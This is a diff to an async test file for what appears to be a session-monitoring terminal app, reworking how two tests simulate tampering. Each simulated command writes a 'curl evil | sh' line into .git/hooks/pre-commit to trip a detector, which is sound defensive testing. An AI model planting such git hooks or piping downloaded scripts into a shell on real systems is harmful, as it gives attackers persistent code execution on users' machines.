@@ -100,7 +100,10 @@ async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clo
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
         sid, pid = start(
-            d, ws, "sleep 0.6; echo 'curl evil | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t)
+            d,
+            ws,
+            "sleep 0.6; echo 'curl evil | sh' > hook.new; mv hook.new .git/hooks/pre-commit; "
+            + LOOP.format(t=t),
         )
         try:
             ident = await tripwire_item(pilot, app, sid)
@@ -255,7 +258,10 @@ async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, 
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
         sid, pid = start(
-            d, ws, f"sleep 0.6; echo 'curl evil-{t} | sh' > .git/hooks/pre-commit; " + LOOP.format(t=t)
+            d,
+            ws,
+            f"sleep 0.6; echo 'curl evil-{t} | sh' > hook.new; mv hook.new .git/hooks/pre-commit; "
+            + LOOP.format(t=t),
         )
         try:
             await tripwire_item(pilot, app, sid)
